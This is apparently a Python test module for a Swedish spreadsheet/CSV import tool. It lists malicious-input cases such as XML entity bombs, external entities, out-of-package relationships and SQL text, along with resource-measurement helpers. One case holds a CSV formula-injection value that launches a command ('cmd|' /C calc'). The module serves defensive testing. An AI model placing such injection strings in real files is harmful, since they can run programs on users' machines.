    Case("billion_laughs", billion_laughs, REJECTED, "DTD"),
    Case("external_entity", external_entity, REJECTED, "DTD"),
    Case("dtd_after_long_comment", dtd_after_long_comment, REJECTED, "DTD"),
    Case("million_rows", million_rows, REJECTED, "Bladet är för stort", sheet="Tillgångar"),
    Case("too_wide", too_wide, REJECTED, "Bladet är för stort", sheet="Tillgångar"),
    Case("truncated", truncated, REJECTED, "skadad"),
    Case("old_xls", old_xls, REJECTED, "gamla Excel-formatet .xls"),
    Case("ods_renamed", ods_renamed, REJECTED, "OpenDocument"),
    Case("png_renamed", png_renamed, REJECTED, "ingen Excel-arbetsbok"),
    Case("password_protected", password_protected, REJECTED, "lösenordsskyddad"),
    Case("zero_bytes", zero_bytes, REJECTED, "ingen Excel-arbetsbok"),
    # the package's structure: found through the relationships, parsed, measured
    Case("single_quoted_refs", single_quoted_refs, REJECTED, "Bladet är för stort",
         sheet="Tillgångar"),
    Case("lower_case_refs", lower_case_refs, REJECTED, "Bladet är för stort", sheet="Tillgångar"),
    Case("character_reference_in_ref", character_reference_in_ref, REJECTED,
         "Bladet är för stort", sheet="Tillgångar"),
    Case("ref_without_row_number", ref_without_row_number, REJECTED, "cellreferensen 'XFD'",
         sheet="Tillgångar"),
    Case("rows_without_r_past_the_limit", rows_without_r_past_the_limit, REJECTED,
         "Bladet är för stort", sheet="Tillgångar"),
    Case("prefixed_elements", prefixed_elements, REJECTED, "Bladet är för stort",
         sheet="Tillgångar"),
    Case("utf16_sheet_part", utf16_sheet_part, REJECTED, "Bladet är för stort",
         sheet="Tillgångar"),
    Case("dimension_claims_small", dimension_claims_small, REJECTED, "Bladet är för stort",
         sheet="Tillgångar"),
    Case("sparse_corners", sparse_corners, REJECTED, "fler än 4\u00a0000\u00a0000 celler",
         sheet="Tillgångar"),
    Case("moved_sheet_part", moved_sheet_part, REJECTED, "Bladet är för stort",
         sheet="Tillgångar"),
    Case("moved_sheet_part_relative", moved_sheet_part_relative, REJECTED,
         "Bladet är för stort", sheet="Tillgångar"),
    Case("sheet_part_outside_xl", sheet_part_outside_xl, REJECTED, "Bladet är för stort",
         sheet="Tillgångar"),
    Case("renamed_bin_sheet_part", renamed_bin_sheet_part, REJECTED, "Bladet är för stort",
         sheet="Tillgångar"),
    Case("dtd_in_moved_part", dtd_in_moved_part, REJECTED, "DTD"),
    Case("dtd_in_renamed_bin_part", dtd_in_renamed_bin_part, REJECTED, "DTD"),
    Case("relationship_outside_package", relationship_outside_package, REJECTED,
         "pekar utanför filen"),
    Case("external_sheet_relationship", external_sheet_relationship, REJECTED,
         "pekar utanför filen"),
    Case("absolute_uri_relationship", absolute_uri_relationship, REJECTED, "pekar utanför filen"),
    Case("missing_sheet_part", missing_sheet_part, REJECTED, "bladet Tillgångar saknas i filen"),
    Case("duplicate_part_names", duplicate_part_names, REJECTED, "finns två gånger"),
    Case("duplicate_part_names_by_case", duplicate_part_names_by_case, REJECTED,
         "finns två gånger"),
    Case("dot_segment_part_name", dot_segment_part_name, REJECTED, "är ogiltigt"),
    Case("huge_unique_count", huge_unique_count, REJECTED, "uppger 4000000000 texter"),
    Case("workbook_elsewhere", workbook_elsewhere, REJECTED, "Bladet är för stort",
         sheet="Tillgångar"),
    Case("sheet_pointing_at_the_workbook", sheet_pointing_at_the_workbook, REJECTED,
         "Bladet är för stort", sheet="Tillgångar"),
    # readable, but wrong
    Case("empty_workbook", empty_workbook, REJECTED, "Bladet Uppgifter saknas", sheet="Uppgifter"),
    Case("missing_sheet", missing_sheet, REJECTED, "Bladet Tillgångar saknas", sheet="Tillgångar"),
    Case("renamed_sheet", renamed_sheet, REJECTED, "Bladet Tillgångar saknas", sheet="Tillgångar"),
    Case("duplicate_sheet", duplicate_sheet, REJECTED, "finns två gånger", sheet="TILLGÅNGAR "),
    Case("formula_without_cached_value", formula_without_cached_value, REJECTED,
         "Värde saknas i kolumnen Namn", "Tillgångar", 3, "Namn"),
    Case("impossible_date", impossible_date, REJECTED, "finns inte i kalendern", "Klassningar", 3,
         "Klassningsdatum"),
    Case("megabyte_name", megabyte_name, REJECTED, "Texten är för lång", "Tillgångar", 3, "Namn"),
    Case("megabyte_description", megabyte_description, REJECTED, "Texten är för lång", "Risker",
         2, "Beskrivning"),
    Case("sql_in_cover_code", sql_in_cover_code, REJECTED, "finns inte i organisationen",
         "Uppgifter", 3, "Kod"),
    Case("csv_nul_bytes", csv_nul_bytes, REJECTED, "binära tecken (NUL) på rad 3"),
    Case("csv_unbalanced_quote", csv_unbalanced_quote, REJECTED, "från rad 3"),
    Case("csv_megabyte_cell", csv_megabyte_cell, REJECTED, "orimligt långt värde på rad 3"),
    # valid data in an odd form
    Case("absurd_dimension", absurd_dimension, ACCEPTED, check=_check_all_admin_rows),
    Case("huge_shared_strings_count", huge_shared_strings_count, ACCEPTED,
         check=_check_all_admin_rows),
    Case("extra_sheets", extra_sheets, ACCEPTED, check=_check_all_admin_rows),
    Case("title_rows_above_headers", title_rows_above_headers, ACCEPTED,
         check=_check_all_admin_rows),
    Case("merged_cells", merged_cells, ACCEPTED, check=expect_assets(personal_data={
        "1882-SOC-T001": "sensitive", "1882-SOC-T002": "yes", "1882-SOC-T003": "yes"})),
    Case("hidden_rows_and_columns", hidden_rows_and_columns, ACCEPTED,
         check=expect_assets(name=NAMES, carrier_name={"1882-SOC-T001": "Procapita",
                                                       "1882-SOC-T002": None,
                                                       "1882-SOC-T003": None})),
    Case("formulas_with_cached_values", formulas_with_cached_values, ACCEPTED,
         check=expect_assets(name={**NAMES, "1882-SOC-T001": "JOURNALSYSTEM"})),
    Case("excel_date_serials", excel_date_serials, ACCEPTED, check=_check_serials),
    Case("emoji_and_rtl", emoji_and_rtl, ACCEPTED, check=expect_assets(name={
        "1882-SOC-T001": "Journal 🔐🧾 👩🏽‍⚕️", "1882-SOC-T002": "سجل المواعيد ‏(RTL)‏",
        "1882-SOC-T003": "פנקס חוזים"})),
    Case("sql_and_html_text", sql_and_html_text, ACCEPTED, check=expect_assets(
        name={"1882-SOC-T001": SQL_TEXT, "1882-SOC-T002": HTML_TEXT,
              "1882-SOC-T003": "Pärm med avtal"},
        register_ref={"1882-SOC-T001": "RF-12", "1882-SOC-T002": None,
                      "1882-SOC-T003": FORMULA_TEXT})),
    Case("csv_bom_comma", csv_bom_comma, ACCEPTED, check=_check_all_admin_rows),
    Case("csv_utf16_tabs", csv_utf16_tabs, ACCEPTED, check=_check_all_admin_rows),
    Case("csv_mixed_encodings", csv_mixed_encodings, ACCEPTED, check=expect_assets(name={
        "1882-SOC-T001": "Journalsystem", "1882-SOC-T002": "Schemaläggning",
        "1882-SOC-T003": "Pärm med avtal"})),
    Case("csv_date_serials", csv_date_serials, ACCEPTED, check=_check_serials),
    Case("csv_formula_text", csv_formula_text, ACCEPTED, check=expect_assets(
        register_ref={"1882-SOC-T001": FORMULA_TEXT, "1882-SOC-T002": None,
                      "1882-SOC-T003": None},
        name={**NAMES, "1882-SOC-T002": "@SUM(1+1)*cmd|' /C calc'!A0"})),
]  # fmt: skip


# The package-structure family, also loaded through the real command line.
STRUCTURE_CASES = [
    "single_quoted_refs", "lower_case_refs", "character_reference_in_ref",
    "ref_without_row_number", "rows_without_r_past_the_limit", "prefixed_elements",
    "utf16_sheet_part", "dimension_claims_small", "sparse_corners", "moved_sheet_part",
    "moved_sheet_part_relative", "sheet_part_outside_xl", "renamed_bin_sheet_part",
    "dtd_in_moved_part", "dtd_in_renamed_bin_part", "relationship_outside_package",
    "external_sheet_relationship", "absolute_uri_relationship", "missing_sheet_part",
    "duplicate_part_names", "duplicate_part_names_by_case", "dot_segment_part_name",
    "huge_unique_count", "huge_shared_strings_count", "workbook_elsewhere",
    "sheet_pointing_at_the_workbook",
]  # fmt: skip


# --------------------------------------------------------------------------- child process
# What a load cost, measured from inside the loading process so that no neighbour on a shared
# machine changes it: CPU seconds (a process waiting for a core uses none), peak memory, and
# the limits the kernel held its reading processes to.


def peak_rss_kb() -> int:
    """This process's peak RSS since its exec (VmHWM): unlike ru_maxrss it does not include the
    pages of the parent it was forked from."""
    for line in Path("/proc/self/status").read_text().splitlines():
        if line.startswith("VmHWM:"):
            return int(line.split()[1])
    return 0


def _child_pids() -> list[int]:
    """The live children of this process (of any of its threads)."""
    pids: list[int] = []
    for task in Path("/proc/self/task").iterdir():
        try:
            pids += [int(p) for p in (task / "children").read_text().split()]
        except OSError:  # the thread ended meanwhile
            continue
    return pids


def _limit(limits_text: str, name: str) -> int | None:
    """The soft value of one line of /proc/PID/limits (None: unlimited)."""
    for line in limits_text.splitlines():
        if line.startswith(name):
            soft = line[len(name) :].split()[0]
            return None if soft == "unlimited" else int(soft)
    raise LookupError(name)


def reading_processes() -> list[dict]:
    """The bounded reading processes this process keeps (``python -m etl.sandboxed_read``), as
    the kernel holds them: the address-space cap (bytes), and the CPU seconds each may still use
    before the kernel stops it (its RLIMIT_CPU soft limit less what it has used)."""
    ticks = os.sysconf("SC_CLK_TCK")
    readers = []
    for pid in _child_pids():
        proc = Path("/proc") / str(pid)
        try:
            argv = (proc / "cmdline").read_bytes().split(b"\0")
            if b"etl.sandboxed_read" not in argv:
                continue
            limits = (proc / "limits").read_text()
            # utime and stime, fields 14 and 15 of stat (counted after the command's ")").
            fields = (proc / "stat").read_text().rsplit(")", 1)[1].split()
        except OSError:  # ended meanwhile
            continue
        used = (int(fields[11]) + int(fields[12])) / ticks
        cpu_limit = _limit(limits, "Max cpu time")
        readers.append({
            "address_space": _limit(limits, "Max address space"),
            "cpu_seconds_left": None if cpu_limit is None else cpu_limit - used,
        })  # fmt: skip
    return readers


def children_peak_rss_kb() -> int:
    """The largest peak RSS among this process's ended children (the bounded reading processes,
    stopped first). An upper bound: Linux counts in each the pages of this process it was
    forked from."""
    try:
        from etl.sandboxed_read import close_children
    except ImportError:  # a reader without bounded processes (measured the same way)
        pass
    else:
        close_children()
    return resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss


def cpu_seconds() -> float:
    """User and system CPU time of this process and of its ended children (the reading
    processes, once ``children_peak_rss_kb`` has stopped them)."""
    total = 0.0
    for who in (resource.RUSAGE_SELF, resource.RUSAGE_CHILDREN):
        usage = resource.getrusage(who)
        total += usage.ru_utime + usage.ru_stime
    return total


def measurements() -> dict:
    """The load's costs (see above); stops the reading processes."""
    readers = reading_processes()
    children_kb = children_peak_rss_kb()
    return {"peak_rss_kb": peak_rss_kb(), "children_peak_rss_kb": children_kb,
            "cpu_seconds": cpu_seconds(), "readers": readers}  # fmt: skip


def _main(url: str, path: str) -> None:
    """Load ``path`` into ``url`` as ``infosak load`` would and print the outcome and the
    load's costs as JSON."""
    from etl.db import make_engine
    from etl.load import load_paths

    engine = make_engine(url)
    run = load_paths(engine, [Path(path)], today=TODAY)
    engine.dispose()
    files = [
        {"outcome": f.outcome, "issues": [[i.file, i.sheet, i.row, i.column, i.message_sv]
                                          for i in f.issues]}
        for f in run.files
    ]  # fmt: skip
    json.dump({"files": files, **measurements()}, sys.stdout, ensure_ascii=False)


def _cli_main(report: str, argv: list[str]) -> None:
    """Run ``infosak`` with ``argv`` (the real command line: output, exit code), then write the
    load's costs (see ``measurements``) to the file ``report``."""
    from infosak_cli import main

    sys.argv = ["infosak", *argv]
    code = 0
    try:
        main()
    except SystemExit as exc:
        code = exc.code if isinstance(exc.code, int) else 1
    Path(report).write_text(json.dumps(measurements()))
    sys.stdout.flush()
    sys.exit(code)


if __name__ == "__main__":
    if sys.argv[1] == "--cli":
        _cli_main(sys.argv[2], sys.argv[3:])
    else:
        _main(sys.argv[1], sys.argv[2])


__all__ = [
    "ACCEPTED",
    "CASES",
    "REJECTED",
    "STRUCTURE_CASES",
    "Case",
    "big_admin_rows",
    "rewrite_zip",
    "sheet_part",
    "write_big_admin_csv",
]
